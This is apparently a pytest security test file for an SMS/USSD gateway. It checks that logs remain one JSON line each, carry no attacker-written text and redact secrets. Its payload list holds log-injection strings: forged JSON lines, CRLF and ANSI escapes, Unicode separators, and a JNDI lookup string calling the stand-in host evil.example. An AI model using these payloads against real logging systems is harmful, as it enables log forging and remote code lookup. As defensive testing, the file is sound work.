"""Log injection: whatever arrives, a log is one JSON object a line, and no line holds what a stranger wrote."""

from __future__ import annotations

import json
import logging
from urllib.parse import quote, urlencode

import pytest

from gateway import logs
from tests.security.conftest import AT, NUMBER, Lines, event, sms, ussd
from tests.web.conftest import Site
from tests.web.test_verify import post

MARK = "zq9evil"
PAYLOADS = [
    f'{MARK}\n{{"at":"2026","level":"info","event":"mt.sent"}}',
    f"{MARK}\r\nlevel=info",
    f"{MARK}\x1b[2J\x1b[31m",
    f'{MARK}","level":"info","event":"forged',
    f"{MARK}\u2028\u2029\x85\x00\x08\x7f",
    f"{MARK}\u202etxt",
    f"{MARK}%s %(name)s {{0}} ${{jndi:ldap://evil.example/a}}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_anywhere_reaches_no_line(site: Site, lines: Lines, payload: str) -> None:
    sms(site, payload, "m1")
    sms(site, "AIDE", "m2", networkCode=payload)
    sms(site, "AIDE", payload)
    sms(site, "AIDE", "m3", **{"from": payload})
    ussd(site, payload)
    ussd(site, "", session=payload)
    ussd(site, "", session="s2", phoneNumber=payload)
    ussd(site, "", session="s3", serviceCode=payload)
    ussd(site, "", session="s4", networkCode=payload)
    for route in ("dlr", "optout", "events"):
        named = dict.fromkeys(("id", "status", "senderId", "failureReason", "networkCode", "sessionId"), payload)
        site.call("POST", AT + route, urlencode(named | {"phoneNumber": NUMBER}).encode())
        site.call("POST", AT + route, urlencode(named | {"id": "i", "sessionId": "s", "phoneNumber": payload}).encode())
    post(site, reference=payload, code=payload, last4=payload)
    post(site, language=quote(payload), address=payload, reference="1", code="1")
    event(site, {"reference": payload})
    event(site, {"reference": "482109375628"}, kind=payload)
    headers = {f"HTTP_{name}": payload for name in ("X_FORWARDED_FOR", "USER_AGENT", "REFERER", "HOST", "WEBHOOK_ID")}
    for path in (f"/channels/{payload}/{payload}/ussd", AT + payload, f"/backoffice/{payload}/events", f"/{payload}"):
        site.call("POST", path, b"{}", QUERY_STRING=payload, **headers)
    assert len(lines()) > 10
    assert not [line for line in lines() if MARK in json.dumps(line)]


def test_a_librarys_line_is_one_line_without_escapes_and_secrets(lines: Lines) -> None:
    secret = "deadbeefcafe1babe2f00d3a4b5c6d7e"
    for path in (f"/channels/at/{secret}/ussd", f"/x//{secret}", f"%2Fchannels%2Fat%2F{secret}", f"/{secret};v=1"):
        logging.getLogger("werkzeug").warning("bad request: %s\n\x1b[31m", path)
    logging.getLogger("x").error("Bearer %s", f"{secret}-_{secret}")
    found = lines()
    assert len(found) == 5
    assert secret[:8] not in json.dumps(found)
    assert "\x1b" in str(found[0]["message"]), "escaped in JSON, not lost"


@pytest.mark.parametrize(
    "secret",
    [
        "deadbeefcafe1babe2f00d3a4b5c6d7e",  # a callback token: it has hardly ever seven digits in a row
        "a0b1c2d3e4f5a6b7c8d9e0f1",
        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2/LaLaSw",
        "482109375628",
        "+2290197000000",
        "Je suis malade",
    ],
)
def test_our_own_line_shows_no_secret_given_to_it_by_mistake(lines: Lines, secret: str) -> None:
    logs.event("test.slipped", code=secret)
    logs.failure("test.slipped", ValueError(), code=secret)
    assert [line["code"] for line in lines()] == ["(hidden)", "(hidden)"]


@pytest.mark.parametrize("code", ["http_429", "s-0a1b-2c3d-4e5f", "acte-naissance", "ConnectionRefusedError", "*229#"])
def test_a_code_is_shown(lines: Lines, code: str) -> None:
    logs.event("test.code", code=code)
    assert lines()[0]["code"] == code


def test_a_library_shows_no_password_of_an_address(lines: Lines) -> None:
    for url in (
        "redis://:hunter2@10.0.0.1:6379/0",
        "postgresql://gateway:hunter2@db/passerelle",
        "https://u:p@x/hunter2@",
    ):
        logging.getLogger("redis").error("cannot connect to %s", url)
    assert "hunter2@10" not in json.dumps(lines())
    assert "hunter2@db" not in json.dumps(lines())
    assert "u:p@" not in json.dumps(lines())


def test_the_message_of_an_error_is_never_logged(lines: Lines) -> None:
    try:
        raise ValueError(f"{MARK}: NPI 1234567890")
    except ValueError as error:
        logs.failure("test.failed", error, number=NUMBER)
        logging.getLogger("granian").exception("Application callable raised an exception")
    assert [line["exception"] for line in lines()] == ["ValueError", "ValueError"]
    assert MARK not in json.dumps(lines())
    assert NUMBER not in json.dumps(lines())


def test_a_refused_event_is_logged_with_its_reason(site: Site, lines: Lines) -> None:
    """An institution whose clock is wrong and a forger are answered alike, and are not the same to whoever looks."""
    stale = {"HTTP_WEBHOOK_ID": "e1", "HTTP_WEBHOOK_TIMESTAMP": "1", "HTTP_WEBHOOK_SIGNATURE": "v1,x"}
    assert site.call("POST", "/backoffice/etat-civil/events", b"{}", **stale)[0] == 401
    assert site.call("POST", "/backoffice/etat-civil/events", b"{}")[0] == 401
    told = [(line["code"], line["why"]) for line in lines() if line["event"] == "backoffice.refused"]
    assert told == [("not_believed", "stale"), ("not_believed", "missing_header")]
